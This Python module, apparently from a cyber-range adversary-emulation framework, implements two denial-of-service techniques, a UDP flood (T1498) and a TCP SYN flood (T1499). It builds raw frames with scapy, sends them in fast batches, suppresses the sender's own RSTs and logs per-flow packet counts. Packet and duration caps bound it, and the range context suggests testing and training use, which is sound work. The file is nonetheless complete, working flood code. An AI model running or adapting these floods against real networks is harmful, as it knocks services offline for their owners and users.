"""Impact: T1498 volumetric UDP flood and T1499 TCP SYN flood, written by ``fastsend``.

The flood's frames are built once: for every target, ``sources`` source ports drawn from a
random generator seeded with ``seed`` (so a run can be repeated packet for packet), one frame
each. The sender cycles through them in a fixed order, so the ledger has exactly
``targets x sources`` 5-tuples whose packet counts differ by at most one (see
``fastsend.FastSender.counts``). While the flood runs, ``QuietKernel`` stops the actor's own
kernel from answering the SYN-ACKs (with RSTs) so that every packet the actor puts on the wire
is one fastsend wrote; the number it suppressed is the ``answers`` fact.
"""
from __future__ import annotations

import random
import time

from cyberrange.attack.spec import Param, technique
from cyberrange.attack.techniques.common import Blocked, Result, _unique_ips, conclude, flow
from cyberrange.attack.techniques.layer2 import (
    ANSWER_WAIT,
    ARP_TIMEOUT,
    isolation_reason,
    resolve_hops,
    route_targets,
)
from cyberrange.attack.techniques.fastsend import (
    MAX_PACKETS,
    MAX_SECONDS,
    FastSender,
    QuietKernel,
    check_bounds,
    tx_dropped,
)


def _ports_of(targets: list[str], default: int) -> dict[str, int]:
    out = {}
    for t in targets:
        ip, _, port = str(t).partition(":")
        out.setdefault(ip, int(port) if port else int(default))
    return out


def _flood(kind: str, targets: list[str], params: dict) -> Result:
    from scapy.arch import get_if_hwaddr
    from scapy.layers.inet import IP, TCP, UDP
    from scapy.layers.l2 import Ether
    res = Result(start=time.time())
    count = int(params["count"])
    duration = float(params["duration"] or 0)
    rate = float(params["rate"] or 0)
    try:
        check_bounds(count, duration)
    except ValueError as exc:
        res.outcome, res.error = "error", str(exc)
        res.end = time.time()
        return res
    n_src = max(1, min(int(params["sources"]), 4096))
    rng = random.Random(int(params["seed"]))
    dports = _ports_of(targets, params["dport"])
    hops = route_targets(_unique_ips(targets), res.log)
    macs = resolve_hops(hops, ARP_TIMEOUT, res.log)
    hops = [h for h in hops if macs.get(h.iface, {}).get(h.next_hop)]
    if hops and len({h.iface for h in hops}) > 1:
        iface = hops[0].iface
        res.log.append(f"targets on several interfaces; flooding only those via {iface}")
        hops = [h for h in hops if h.iface == iface]
    if not hops:
        res.log.append("no target reachable (no route or no ARP answer); nothing sent")
        return conclude(res, False, isolation_reason())
    iface = hops[0].iface
    my_mac = get_if_hwaddr(iface)
    payload = bytes(rng.getrandbits(8) for _ in range(int(params["size"]))) \
        if kind == "udp" else b""
    frames, keys, resets = [], [], []
    for h in hops:
        for sport in rng.sample(range(1024, 65536), n_src):
            ip = IP(src=h.src, dst=h.ip, id=rng.getrandbits(16), ttl=64)
            eth = Ether(src=my_mac, dst=macs[iface][h.next_hop])
            if kind == "syn":
                isn = rng.getrandbits(32)
                l4 = TCP(sport=sport, dport=dports[h.ip], flags="S", seq=isn,
                         window=64240, options=[("MSS", 1460)])
                resets.append(bytes(eth / IP(src=h.src, dst=h.ip, id=rng.getrandbits(16), ttl=64)
                                    / TCP(sport=sport, dport=dports[h.ip], flags="R",
                                          seq=(isn + 1) & 0xFFFFFFFF, window=0)))
            else:
                l4 = UDP(sport=sport, dport=dports[h.ip]) / payload
            frames.append(bytes(eth / ip / l4))
            keys.append((h.src, h.ip, "tcp" if kind == "syn" else "udp", sport, dports[h.ip]))
    before = tx_dropped(iface)
    sender = FastSender(iface, frames, batch=int(params["batch"]))
    resets_sent: list = []
    try:
        with QuietKernel([h.ip for h in hops]) as quiet:
            try:
                sender.run(count, rate, duration)
            except Blocked as exc:          # the actor's node stopped the flood
                res.cut(exc.reason)
            if resets and sender.sent:
                # one RST per 5-tuple used (seq ISN+1) clears the target's half-open
                # connections; else their SYN-ACK retransmissions (for about a minute) would
                # draw RSTs from the actor's kernel after the step, outside the ledger. Each
                # is sent twice: on a lossy link (SATCOM: 0.5 %) a lost RST would leave one
                # (a second RST to a connection already gone is ignored)
                time.sleep(0.05)
                used = [(k, r) for k, r, n in zip(keys, resets, sender.counts()) if n]
                cleanup = FastSender(iface, [r for _k, r in used] * 2)
                try:
                    cleanup.run(2 * len(used), 0)
                except Blocked:
                    pass                        # blocked too: what went out is counted
                finally:
                    cleanup.close()             # cyclic order from frame 0
                    resets_sent = [used[i % len(used)] for i in range(cleanup.sent)]
            quiet.settle(ANSWER_WAIT)   # answers in flight (a slow link: an RTT later) dropped
    finally:                          # after a cut or an error too: what went out
        sender.close()
        for key, r in resets_sent:
            res.flows.append(flow(*key, 1, len(r)))
        for key, n, length in zip(keys, sender.counts(), sender.lengths):
            res.flows.append(flow(*key, n, n * length))
    if not quiet.active:
        res.log.append("WARNING: nft unavailable; the actor kernel's answers (RSTs, ICMP) were "
                       f"not suppressed and are not in the ledger ({quiet.error})")
    lost = tx_dropped(iface) - before
    if lost:
        res.log.append(f"WARNING: {iface} dropped {lost} frames on transmit; the ledger counts "
                       f"frames written, the wire saw {lost} fewer")
    pps = sender.sent / sender.elapsed if sender.elapsed > 0 else 0.0
    res.log.append(f"{sender.sent} frames in {sender.elapsed:.3f}s ({pps:.0f}/s, asked "
                   f"{rate or 'max'}/s) over {len(frames)} 5-tuples out of {iface}")
    res.facts = {"packets": sender.sent, "pps": round(pps, 1), "answers": quiet.dropped,
                 "targets": [h.ip for h in hops]}
    via_gw = any(h.gw for h in hops)
    silent = None
    if kind == "syn" and quiet.active and quiet.dropped == 0 and sender.sent:
        res.log.append("no SYN-ACK or RST came back from any target")
        if via_gw:
            silent = "no target answered a SYN through the gateway (a firewall drops them)"
        return conclude(res, False, silent)
    return conclude(res, sender.sent, None)


def _common(dport_default: int, what: str) -> dict[str, Param]:
    return {
        "count": Param(int, 10000, f"{what} to send in total (at most {MAX_PACKETS:,})"),
        "rate": Param((int, float), 10000, "packets per second; 0 = as fast as possible (the "
                                            "step's rate cap)"),
        "duration": Param((int, float), 0, f"stop after this many seconds (0 = when count is "
                                           f"reached; at most {MAX_SECONDS:.0f})"),
        "dport": Param(int, dport_default, "destination port for targets given without :port"),
        "sources": Param(int, 16, "distinct source ports per target (= 5-tuples in the ledger)"),
        "seed": Param(int, 1, "seed of the source ports, sequence numbers and payload"),
        "batch": Param(int, 64, "frames per sendmmsg call"),
    }


@technique("T1498", "Network Denial of Service: volumetric UDP flood", "impact",
           {**_common(53, "UDP datagrams"), "size": Param(int, 64, "UDP payload bytes")},
           produces=("packets", "pps", "targets"))
def udp_flood(targets: list[str], params: dict) -> Result:
    return _flood("udp", targets, params)


@technique("T1499", "Endpoint Denial of Service: TCP SYN flood", "impact",
           _common(80, "SYN segments"), produces=("packets", "pps", "answers", "targets"))
def syn_flood(targets: list[str], params: dict) -> Result:
    return _flood("syn", targets, params)
